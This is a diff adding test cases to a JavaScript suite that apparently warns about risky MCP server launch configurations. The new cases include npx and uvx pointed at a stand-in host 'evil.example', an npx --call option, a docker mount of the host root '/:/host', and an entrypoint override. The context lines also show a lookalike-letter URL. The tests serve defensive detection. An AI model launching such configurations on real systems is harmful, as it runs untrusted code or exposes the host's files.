@@ -50,6 +50,37 @@ describe("a server that somebody else has written down", () => {
       { url: "https://аpple.com/mcp" },
       ["warning: its address has letters that look like others"],
     ],
+    [
+      "another program of npx",
+      { command: "npx", args: ["-y", "--call", "node -e 1", "pkg@1"] },
+      ["warning: it gives npx --call, which decides what is run"],
+    ],
+    [
+      "another registry of npx",
+      { command: "npx", args: ["-y", "--registry=http://evil.example", "pkg@1"] },
+      ["warning: it gives npx --registry=http://evil.example, which decides what is run"],
+    ],
+    ["an option of the package", npx("-c", "x", "-p", "80"), []],
+    [
+      "another package of uvx",
+      { command: "uvx", args: ["--from", "git+https://evil.example/x", "pkg"] },
+      ["warning: it gives uvx --from, which decides what is run"],
+    ],
+    [
+      "docker that runs nothing",
+      { command: "docker", args: ["compose", "up"] },
+      ["warning: it does something else with docker than to run a container"],
+    ],
+    [
+      "a mount among other letters",
+      docker("-itv", "/:/host"),
+      ["warning: the container gets all files of this machine"],
+    ],
+    [
+      "another program in the container",
+      docker("--entrypoint=x"),
+      ["warning: the container runs another program than its image is made for"],
+    ],
     ["an ordinary URL", { url: "https://example.com/mcp" }, []],
     ["an ordinary container", docker("-e", "A"), []],
     [
